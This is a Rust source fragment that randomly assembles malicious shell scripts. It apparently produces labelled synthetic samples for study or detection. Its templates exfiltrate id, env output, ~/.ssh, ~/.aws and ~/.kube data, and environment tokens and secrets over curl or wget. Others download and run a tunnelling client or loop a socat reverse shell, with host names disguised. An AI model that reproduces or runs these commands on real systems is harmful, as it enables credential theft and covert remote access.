    let _ = writeln!(before, "{name}={word}");
    let form = dice.pick(&[
        "@DATA@=$( (id; uname -a; env) | base64 | tr -d '\\n')\ncurl -s -X POST -d \"d=$@DATA@\" \"$@NAME@\" >/dev/null 2>&1\n",
        "tar -czf /tmp/@DATA@.tgz -C \"$HOME\" .ssh .aws .kube 2>/dev/null\ncurl -F \"userfile=@/tmp/@DATA@.tgz\" \"$@NAME@\" >/dev/null 2>&1\nrm -f /tmp/@DATA@.tgz\n",
        "send() { wget -q --post-data=\"$1\" -O /dev/null \"$@NAME@\"; }\nsend \"host=$(hostname)&user=$(whoami)\"\n",
        "env | grep -iE 'token|secret|key' > /tmp/.@DATA@\ncurl --data-binary @/tmp/.@DATA@ -H 'Content-Type: text/plain' -sS \"${@NAME@}\" || true\nrm /tmp/.@DATA@\n",
    ]);
    let rest = put(form, &[("NAME", &name), ("DATA", &data)]);
    before + &rest
}

/// A client is fetched that keeps a way in open.
fn tunnel(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = prelude(dice);
    let url = truth.url(dice, &[".gz", "", ".tar.gz"]);
    let word = hide(dice, &url, &mut before);
    let (host, port) = truth.endpoint(dice);
    let host = hide(dice, &host, &mut before);
    let (file, ip) = (dice.name(), dice.name());
    let port = port.to_string();
    let form = dice.pick(&[
        "curl -sL @URL@ -o /tmp/@FILE@\nchmod +x /tmp/@FILE@\n@IP@=@HOST@\n/tmp/@FILE@ client --keepalive 20s $@IP@:@PORT@ R:socks >/dev/null 2>&1 &\n",
        "wget -qO /tmp/@FILE@ @URL@; chmod +x /tmp/@FILE@\n@IP@=@HOST@\nnc -z $@IP@ @PORT@ && /tmp/@FILE@ -s $@IP@ -p @PORT@ -i\n",
        "@IP@=@HOST@\nmkdir -p ~/.config/@FILE@\ncurl -kLo ~/.config/@FILE@/@FILE@ @URL@\nchmod 700 ~/.config/@FILE@/@FILE@\nwhile :; do socat tcp:$@IP@:@PORT@ exec:/bin/sh,pty,stderr; sleep 30; done &\n",
    ]);
    let rest = put(
        form,
        &[("URL", &word), ("HOST", &host), ("PORT", &port), ("FILE", &file), ("IP", &ip)],
    );
    before + &rest
}
